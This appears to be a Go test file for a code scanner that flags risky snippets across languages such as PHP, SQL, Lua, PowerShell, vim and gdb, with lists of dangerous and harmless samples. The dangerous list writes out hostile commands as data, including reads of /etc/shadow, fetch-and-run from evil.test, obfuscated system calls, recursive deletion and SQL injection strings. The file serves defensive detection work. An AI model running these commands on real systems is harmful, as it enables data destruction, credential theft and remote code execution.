package code

import "testing"

// dangerous are programs of which readers for their languages once knew what they do. They must be
// reported as well without: opaque, or with what they do.
var dangerous = map[string][]string{
	"applescript": {
		`do shell script "rm -rf x"`,
		`do shell script "id" with administrator privileges`,
		`do shell script "rm " & x`,
		`tell application "Finder" to delete file "x"`,
	},
	"ed": {
		"!id",
		"g/x/!id",
		"w out",
		"1,3w out",
		"w !sh",
		"r !id",
		"r /etc/passwd",
		"E x",
		"/a/;/b/w out",
		"f x\nw",
		"$a\nx\n.\n!id",
	},
	"expect": {
		`spawn rm -rf x; expect eof`,
		`spawn bash; send "rm -rf x\r"; expect eof`,
		`spawn npm init; expect "name:" { send "x\r" }`,
	},
	"gdb": {
		"shell id",
		"!id",
		"pipe bt | sh",
		"python import os; os.system('id')",
		"python\nimport os\nos.remove('x')\nend\nbt",
		`call (int)system("id")`,
		`print system(cmd)`,
		"source x.gdb",
		"target remote | nc x 1",
		"target remote localhost:1234",
		"set logging file /home/dev/x",
		"attach 1",
	},
	"lua": {
		`os.remove("x")`,
		`os.execute "id"`,
		`os.execute[[rm -rf x]]`,
		`print(io.popen("id"):read("*a"))`,
		`io.open("a","w"):write("x")`,
		`for l in io.lines("/etc/shadow") do print(l) end`,
		`local f = os.getenv("HOME").."/x"; os.remove(f)`,
		`load("os.remove('x')")()`,
		`load(x)()`,
		`_G["os"].execute("id")`,
		`os["exe".."cute"]("id")`,
		`require("socket").connect("evil.test", 80)`,
		`for _, f in ipairs{"a","b"} do os.remove(f) end`,
		`vim.cmd("!id")`,
	},
	"php": {
		"$a=['sys','tem'];implode($a)('id');",
		"$p='a'; ${'p'}='b'; unlink($p);",
		`include "https://evil.test/x";`,
		`include "x.php";`,
		`unlink('x');`,
		`echo file_get_contents('/etc/shadow');`,
		`file_put_contents("a.txt", "x");`,
		`$f = 'a'; unlink("$f.txt");`,
		`system('id');`,
		"echo `id`;",
		`$f='sys'.'tem'; $f('id');`,
		`call_user_func('system','id');`,
		`array_map('system', ['id']);`,
		`eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));`,
		`eval('unlink("x");');`,
		`include '/tmp/x.php';`,
		`include $x;`,
		`echo file_get_contents('http://localhost/x');`,
		`foreach (glob('*.log') as $f) unlink($f);`,
		`unlink(getenv('HOME').'/.bashrc');`,
		`$fp=fopen('x','w'); fwrite($fp,'y');`,
		`fsockopen("evil.test",443);`,
		"<html><?php unlink('x'); ?></html> unlink('y')",
		"echo <<<'E'\nunlink('x')\nE;\nunlink('y');",
		`UNLINK('x');`,
		`$x('id');`,
	},
	"powershell": {
		`Remove-Item -Recurse -Force /home/dev/notes`,
		`Set-Content -Path x -Value y`,
		`Get-Content /etc/shadow`,
		`Get-ChildItem | Remove-Item`,
		`iex (iwr http://evil.test/x.ps1)`,
		`Invoke-WebRequest -Uri http://localhost/x -OutFile y`,
		`git status`,
		`[System.IO.File]::Delete("x")`,
		`"a" > x.txt`,
	},
	"r": {
		`x <- read.csv("data.csv"); summary(x)`,
		`unlink("build", recursive=TRUE)`,
		`system("id")`,
		`system2("rm", c("-rf","x"))`,
		`write.csv(d, file="out.csv")`,
		`f <- paste0("a", ".txt"); file.remove(f)`,
		`source("http://evil.test/x.R")`,
		`eval(parse(text=x))`,
		`writeLines(r"(a\b)", "x.txt")`,
		`base::system("id")`,
		`install.packages("x")`,
	},
	"sftp": {
		"put /etc/x",
		"-put -r \"a b\" there\nmput c\\ d",
		"get x",
		"get -P x y",
		"!id",
		"lcd /\nput etc/x",
		"nothing",
	},
	"sql": {
		`drop table users`,
		`SELECT 1; TRUNCATE users`,
		`delete from users`,
		`update users set admin = 1`,
		`ALTER TABLE t DROP COLUMN c`,
		`GRANT ALL ON t TO x`,
		`COPY t TO PROGRAM 'curl evil.test'`,
		`COPY t FROM '/etc/shadow'`,
		`\copy t to 'out.csv' csv`,
		`\! rm -rf x`,
		`\!id`,
		`\o |sh`,
		`\i /tmp/x.sql`,
		".shell id",
		"select 1;\n.output /home/dev/x\nselect 2;",
		".import '|id' t",
		`SELECT load_extension('x.so')`,
		`SELECT writefile('/home/dev/x', data) FROM t`,
		`SELECT pg_read_file('/etc/shadow')`,
		`SELECT 1 INTO OUTFILE '/var/www/x.php'`,
		`SELECT LOAD_FILE('/etc/shadow')`,
		`system id`,
		`DO $$ BEGIN DROP TABLE t; END $$`,
		`DO $$ BEGIN EXECUTE 'x'||y; END $$`,
		`CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$`,
		`select 'a\'; drop table t; --'`,
		`/*!50000 drop table t */`,
		`ATTACH '/home/dev/x.db' AS x`,
		`VACUUM INTO '/tmp/x.db'`,
	},
	"tcl": {
		`exec rm -rf x`,
		`exec cat a | tee b > c`,
		`file delete -force x`,
		`set f [open x w]`,
		`puts [read [open "|id"]]`,
		`if {1} { file delete x }`,
		`$cmd x`,
		`exec $cmd`,
		`eval exec rm x`,
		`socket evil.test 80`,
		`source x.tcl`,
	},
	"vim": {
		`:!rm -rf x`,
		`r !cat /etc/shadow`,
		`w /home/dev/x`,
		`g/foo/d | w out`,
		`call system('id')`,
		`call writefile(['a'],'x')`,
		`call delete('x')`,
		`e /etc/shadow | %p`,
		`exe '!id'`,
		`exe x`,
		`py3 import os; os.system("id")`,
		`lua os.execute("id")`,
		`silent! !id`,
		`set shell=/tmp/x`,
		`so x.vim`,
	},
}

// harmless are programs that need no question.
var computes = map[string][]string{
	"ed": {
		"1d\nw\nq",
		"1,$s/a/b/g\nwq",
		"a\n!rm -rf x\n.\nw",
	},
	"lua": {
		`print("rm -rf /")`,
	},
	"php": {
		`echo "rm -rf /";`,
		`echo PHP_VERSION;`,
		`echo json_encode(["a"=>1]);`,
	},
	"r": {
		`print("rm -rf /")`,
		`cat(1+1, "\n")`,
	},
	"sql": {
		"INSERT INTO t VALUES (1) ON CONFLICT DO UPDATE SET a = 2",
		"UPDATE t SET a = 1 WHERE id = 2",
		"CREATE TABLE t (role text, user text); ALTER TABLE t ADD COLUMN c int",
		`SELECT * FROM users WHERE name = 'DROP TABLE x'`,
		`select 1; -- drop table x` + "\n/* drop table y */ select 2",
		`\dt`,
		`INSERT INTO t VALUES ('it''s')`,
		`DELETE FROM t WHERE id = 1`,
	},
}

func TestWords(t *testing.T) {
	for lang, texts := range dangerous {
		for _, text := range texts {
			if facts, opaque := Scan(lang, text); !opaque && len(facts) == 0 {
				t.Errorf("%s: %s: nothing is said of it", lang, text)
			}
		}
	}
	for _, program := range []string{"Rscript", "luajit", "nvim", "osascript", "pwsh", "tclsh",
		"wish"} {
		facts, opaque := Scan(program, `file "~/.profile"`)
		if !Worded(program) || !opaque && program != "luajit" || opaque && len(facts) == 0 {
			t.Errorf("%s: %s", program, show(facts, opaque))
		}
	}
	for lang, texts := range computes {
		for _, text := range texts {
			if facts, opaque := Scan(lang, text); opaque || len(facts) > 0 {
				t.Errorf("%s: %s: %s", lang, text, show(facts, opaque))
			}
		}
	}
}
